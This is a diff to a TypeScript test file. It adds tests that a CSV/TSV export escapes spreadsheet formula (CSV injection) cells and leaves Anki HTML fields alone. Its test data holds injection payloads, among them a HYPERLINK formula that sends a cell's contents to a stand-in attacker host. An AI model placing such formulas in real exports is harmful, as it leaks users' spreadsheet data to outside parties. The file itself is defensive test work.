@@ -7,6 +7,8 @@ import {
   delimitedRow,
   type ExportCard,
   reviewFields,
+  spreadsheetSafe,
+  spreadsheetText,
 } from '../../../../src/features/library/export-format.ts';
 
 const card: ExportCard = {
@@ -53,6 +55,42 @@ describe('RFC 4180 fields', () => {
       '',
       '',
     ]);
+  });
+});
+
+describe('cells a spreadsheet would evaluate (OWASP CSV injection)', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?leak="&A2,"open")',
+    '+SUM(1,1)',
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋SUM(1,1)',
+    '－2+3',
+    '＠SUM(1+1)',
+    "'=1+1",
+    "''+1",
+  ];
+  it('starts every such cell with an apostrophe, so it is shown as text', () => {
+    for (const cell of HOSTILE) expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
+  });
+  it('leaves every other cell as it is, an apostrophe in front included', () => {
+    for (const cell of ["'til the end", "'", 'a=b', ' x', 'say "cheese"', '', '2026-01-02T03:04:05.006Z', '5']) expect(spreadsheetSafe(cell)).toBe(cell);
+  });
+  it('is undone exactly by dropping the apostrophe from a cell that has it before a trigger', () => {
+    for (const cell of [...HOSTILE, "'til", "'", "''", "'x'", 'plain']) expect(spreadsheetText(spreadsheetSafe(cell))).toBe(cell);
+  });
+  it('applies to every field of a CSV/TSV row, after which RFC 4180 quoting still holds', () => {
+    expect(delimitedRow(['=HYPERLINK("http://attacker.example/?leak="&A2,"open")', '+SUM(1,1)', '@SUM(1+1)'], ',')).toBe(
+      `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""open"")","'+SUM(1,1)",'@SUM(1+1)\r\n`,
+    );
+    expect(delimitedRow(['\t=1', 'ok'], '\t')).toBe(`"'\t=1"\tok\r\n`);
+  });
+  it('leaves the Anki file alone: its fields are HTML, which Anki does not evaluate', () => {
+    expect(ankiRow({ ...card, translation: '=1+1', text: '@SUM(1+1)' })).toContain('\t=1+1\t<b>@SUM(1+1)</b>');
   });
 });
 
